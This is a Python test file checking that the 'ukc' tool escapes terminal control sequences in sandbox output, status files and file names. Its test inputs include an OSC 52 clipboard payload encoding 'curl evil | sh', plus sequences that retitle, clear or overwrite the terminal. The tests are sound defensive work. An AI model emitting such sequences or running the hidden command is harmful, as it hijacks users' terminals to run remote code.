"""A sandbox writes terminal escape sequences into its command output to drive the terminal
of the user who runs `ukc apply`: OSC 52 sets the clipboard (the next paste runs the
sandbox's command line), OSC 0 retitles the window, CSI clears the screen and recolours what
follows, a bare CR rewrites the line it ends. Everything a command prints is the sandbox's.
"""

from __future__ import annotations

import json

import pytest

from tests.support.ukc import Ukc

pytestmark = pytest.mark.metro

#: what the sandbox prints: clipboard, title, clear screen, colour, overwrite, bidi override
ATTACK = (
    r"printf 'a\033]52;c;Y3VybCBldmlsIHwgc2g=\007b\n';"
    r"printf 'c\033]0;TITLE\007d\033[2J\033[31me\n' >&2;"
    r"printf 'innocent\rREWRITTEN\n'; printf 'f\342\200\256g\n'; printf 'tab\there\r\n'"
)


def test_command_output_reaches_the_users_terminal_with_its_escape_sequences_shown_not_run(
    ukc: Ukc,
) -> None:
    (ukc.project / "work").mkdir()
    ukc.write_spec(
        f"name: esc\ndirectory: ./work\ncommands:\n  - name: paint\n    run: {ATTACK!r}\n"
    )
    proc = ukc.run("apply", "session.yaml", check=0)
    shown = proc.stdout + proc.stderr
    for control in ("\x1b", "\x07", "\r", "\u202e"):
        assert control not in shown, f"{control!r} reached the terminal:\n{shown!r}"
    assert r"[esc] | a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07b" in shown
    assert r"[esc] ! c\x1b]0;TITLE\x07d\x1b[2J\x1b[31me" in shown
    assert r"[esc] | innocent\x0dREWRITTEN" in shown
    assert r"[esc] | f\u202eg" in shown
    assert "[esc] | tab\there\n" in shown


def test_a_checkouts_status_file_reaches_the_terminal_escaped(
    ukc: Ukc,
) -> None:
    (ukc.project / "work").mkdir()
    ukc.write_spec("name: esc\ndirectory: ./work\ncommands:\n  - name: fail\n    run: exit 3\n")
    ukc.run("apply", "session.yaml", check=1)
    # the status file is the checkout's: a pull request may bring its own
    path = ukc.project / ".ukc" / "status.json"
    doc = json.loads(path.read_text())
    doc["sessions"]["esc"]["message"] = "x\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2Jy"
    doc["sessions"]["esc"]["commands"][0]["name"] = "f\x1b]0;TITLE\x07"
    path.write_text(json.dumps(doc))
    proc = ukc.run("status")
    assert "\x1b" not in proc.stdout + proc.stderr, repr(proc.stdout)
    assert r"x\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2Jy" in proc.stdout
    assert r"f\x1b]0;TITLE\x07" in proc.stdout


def test_a_file_name_in_the_checkout_reaches_the_plans_terminal_output_escaped(ukc: Ukc) -> None:
    work = ukc.project / "work"
    work.mkdir()
    (work / "f\x1b]0;TITLE\x07\x1b[2J.txt").write_text("a pull request's file\n")
    ukc.write_spec("name: esc\ndirectory: ./work\n")
    proc = ukc.run("plan", "session.yaml", check=0)
    assert "\x1b" not in proc.stdout + proc.stderr, repr(proc.stdout)
    assert r"f\x1b]0;TITLE\x07\x1b[2J.txt" in proc.stdout


def test_a_command_name_in_a_checkouts_status_file_reaches_the_logs_output_escaped(
    ukc: Ukc,
) -> None:
    (ukc.project / "work").mkdir()
    ukc.write_spec("name: esc\ndirectory: ./work\ncommands:\n  - name: fail\n    run: exit 3\n")
    ukc.run("apply", "session.yaml", check=1)
    path = ukc.project / ".ukc" / "status.json"
    doc = json.loads(path.read_text())
    doc["sessions"]["esc"]["commands"][0]["name"] = "f\x1b]0;TITLE\x07"
    path.write_text(json.dumps(doc))
    proc = ukc.run("logs", "esc")
    assert "\x1b" not in proc.stdout + proc.stderr, repr(proc.stdout + proc.stderr)
    assert r"== command f\x1b]0;TITLE\x07 (exit 3" in proc.stdout, proc.stdout + proc.stderr
